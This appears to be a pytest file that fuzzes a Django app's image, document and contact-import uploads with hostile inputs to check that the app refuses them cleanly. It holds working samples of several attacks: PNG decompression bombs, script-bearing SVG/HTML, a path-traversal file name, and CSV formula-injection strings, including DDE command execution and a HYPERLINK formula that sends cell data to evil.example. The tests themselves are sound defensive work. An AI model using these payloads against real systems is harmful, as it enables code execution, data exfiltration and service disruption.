"""Uploads fuzzed with hostile files: branding images, shared documents and contact imports.

Each hostile file gets a clear message in the form (never a 500) and writes nothing. Cases
already covered elsewhere are not repeated here: a non-image named .png and an image over the
size limit (tests/clients/test_profile.py); an executable named .pdf, an empty and an oversized
document (tests/messaging/test_sharing_and_feed.py); a binary, empty, header-only, non-address
book and wrong-delimiter import and Latin-1 files (tests/clients/test_import_export.py)."""

import csv
import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from clients.models import Contact, ContactImport
from messaging.models import Document, FeedItem

pytestmark = pytest.mark.django_db


# --- hostile image bytes ---------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A valid 1-bit PNG header claiming ``width``×``height`` pixels in a few kilobytes."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    # Only the first rows are really compressed: Pillow's verify() checks chunks, not pixels.
    idat = compressor.compress(row * min(height, 2000)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def real_png(size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "#1f5fa8").save(buffer, "PNG")
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>'
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"

HOSTILE_IMAGES = {
    "decompression-bomb-49-megapixels": ("bomb.png", png_bomb(7000, 7000), "40 megapixels"),
    "decompression-bomb-10-gigapixels": ("bomb.png", png_bomb(100_000, 100_000), "not an image"),
    "truncated-png": ("half.png", real_png((400, 400))[:300], "not an image"),
    "svg-with-script": ("logo.svg", SVG_WITH_SCRIPT, "image"),
    "svg-named-png": ("logo.png", SVG_WITH_SCRIPT, "not an image"),
    "html-named-jpg": ("photo.jpg", HTML_PAGE, "not an image"),
    "real-png-named-html": ("photo.html", real_png(), "extension"),
    "tiff-not-allowed": ("scan.png", None, "jpeg, png, gif or webp"),
}


def tiff_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, "TIFF")
    return buffer.getvalue()


def profile_form(agent) -> dict:
    return {
        "display_name": agent.display_name,
        "title": "Broker",
        "brokerage_name": "Harbor & Elm Realty",
        "brand_color": "#1f5fa8",
        "public_email": "",
        "website": "",
    }


@pytest.mark.parametrize("field", ["photo", "logo"])
@pytest.mark.parametrize("case", HOSTILE_IMAGES)
def test_hostile_branding_images_are_refused_in_words(agent_client, agent, case, field):
    name, content, expected = HOSTILE_IMAGES[case]
    upload = SimpleUploadedFile(name, content if content is not None else tiff_bytes())
    response = agent_client.post(
        reverse("agent:profile_edit"), {**profile_form(agent), field: upload}
    )
    assert response.status_code == 200, "a hostile image must give the form back, not a 500"
    errors = " ".join(response.context["form"].errors.get(field, [])).lower()
    assert expected in errors, errors
    agent.refresh_from_db()
    assert not getattr(agent, field)


@pytest.mark.parametrize(
    "name, content",
    [
        ("plan.pdf", SVG_WITH_SCRIPT),
        ("plan.svg", SVG_WITH_SCRIPT),
        ("offer.pdf", HTML_PAGE),
        ("bomb.png", png_bomb(7000, 7000)),
        ("bomb.png", png_bomb(100_000, 100_000)),
        ("half.png", real_png((400, 400))[:300]),
        ("book.pdf", b"PK\x03\x04" + b"\x00" * 200),
    ],
    ids=["svg-named-pdf", "svg", "html-named-pdf", "bomb-49mp", "bomb-10gp", "truncated", "zip"],
)
def test_hostile_documents_are_refused_in_words(agent_client, client_contact, name, content):
    response = agent_client.post(
        reverse("agent:share_document"),
        {"recipients": [client_contact.pk], "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    errors = str(response.context["form"].errors).lower()
    assert "pdf or an image" in errors, errors
    assert not FeedItem.objects.exists() and not Document.objects.exists()


def test_a_pdf_that_is_also_html_is_served_as_a_pdf_never_as_a_page(
    agent_client, portal_client, client_contact
):
    """A polyglot starts like a PDF: we keep it, but a browser must never render it as HTML."""
    polyglot = b"%PDF-1.4\n" + HTML_PAGE
    response = agent_client.post(
        reverse("agent:share_document"),
        {
            "recipients": [client_contact.pk],
            "file": SimpleUploadedFile("../../../etc/<b>offer</b>.html", polyglot),
        },
    )
    assert response.status_code == 302
    document = Document.objects.get()
    assert ".." not in document.file.name and "/etc/" not in document.file.name
    download = portal_client.get(reverse("portal:document", args=[document.pk]))
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "<b>" not in portal_client.get(reverse("portal:dashboard")).content.decode()


# --- contact imports -------------------------------------------------------------------------


def import_upload(agent_client, content: bytes, name="contacts.csv"):
    return agent_client.post(
        reverse("agent:import_upload"),
        {"file": SimpleUploadedFile(name, content), "delimiter": "auto"},
    )


def xlsx_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet/>" * 100)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content, expected",
    [
        (b"x" * (25 * 1024 * 1024 + 1), "larger than 25 mb"),
        (xlsx_bytes(), "not an address book we can read"),
        (b"\x1f\x8b\x08\x00" + zlib.compress(b"First Name\n" * 10_000), "binary file"),
        (
            b"First Name,Last Name,Email\n" + b'"' + b"A" * 200_000 + b'",B,c@example.com\n',
            "could not be read",
        ),
        (b'First Name,Last Name\n"Unclosed,quote\n' + b"x," * 100_000 + b"\n", None),
        (
            b"First Name," + b"Extra," * 20_000 + b"Email\nA," + b"," * 20_000 + b"a@x.example\n",
            None,
        ),
        ("First Name,Last Name,Email\nZoë,Ærø,zoe@example.com\n".encode("utf-16-be"), "binary"),
        (b"\xfe\xff\x00F\x00i\xd8\x00", "binary file"),
        (b"BEGIN:VCARD\nVERSION:3.0\nFN:" + b"Q" * 300_000 + b"\nEND:VCARD\n", None),
        (b"BEGIN:VCARD\nPHOTO;ENCODING=b:" + b"/9j/" * 50_000 + b"\n", None),
    ],
    ids=[
        "huge",
        "xlsx-zip",
        "gzip",
        "field-over-csv-limit",
        "unclosed-quote",
        "20000-columns",
        "utf16-without-bom",
        "broken-utf16",
        "vcard-300k-name",
        "vcard-never-ends",
    ],
)
def test_hostile_imports_get_a_clear_message_never_a_500(agent_client, agent, content, expected):
    response = import_upload(agent_client, content)
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        page = response.content.decode().lower()
        if expected:
            assert expected in page
        assert not ContactImport.objects.exists()
    else:
        assert expected is None, "this file should have been refused"
        preview = agent_client.get(response["Location"])
        assert preview.status_code == 200
    assert not Contact.objects.filter(agent=agent).exists()


def test_utf16_with_a_bom_and_cp1252_imports_read_the_names(agent_client, agent):
    for encoding, prefix in (("utf-16", b""), ("cp1252", b"")):
        text = "First Name,Last Name,Email\nRenée,Müller,renee-" + encoding + "@example.com\n"
        response = import_upload(agent_client, prefix + text.encode(encoding))
        assert response.status_code == 302, response.content.decode()[:500]
        contact_import = ContactImport.objects.latest("created_at")
        agent_client.post(reverse("agent:import_confirm", args=[contact_import.token]))
    assert Contact.objects.filter(agent=agent, first_name="Renée", last_name="Müller").count() == 2


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_formulas_imported_from_a_file_are_exported_inert(agent_client, agent):
    """Formula injection: what an import brings in comes back out of every CSV as text."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["First Name", "Last Name", "Email", "Organization", "Notes"])
    for number, formula in enumerate(FORMULAS):
        writer.writerow([formula, formula, f"f{number}@example.com", formula, formula])
    response = import_upload(agent_client, buffer.getvalue().encode())
    assert response.status_code == 302, response.content.decode()[:500]
    contact_import = ContactImport.objects.latest("created_at")
    agent_client.post(reverse("agent:import_confirm", args=[contact_import.token]))
    assert Contact.objects.filter(agent=agent).count() == len(FORMULAS)
    ids = list(Contact.objects.filter(agent=agent).values_list("pk", flat=True))

    exports = [
        agent_client.get(reverse("agent:contacts_export")),
        agent_client.post(reverse("agent:contacts_bulk"), {"action": "export", "ids": ids}),
        agent_client.get(reverse("agent:contact_summary"), {"format": "csv"}),
    ]
    checked = 0
    for response in exports:
        if not response.get("Content-Type", "").startswith("text/csv"):
            continue
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
                checked += 1
    assert checked > len(FORMULAS) * 4
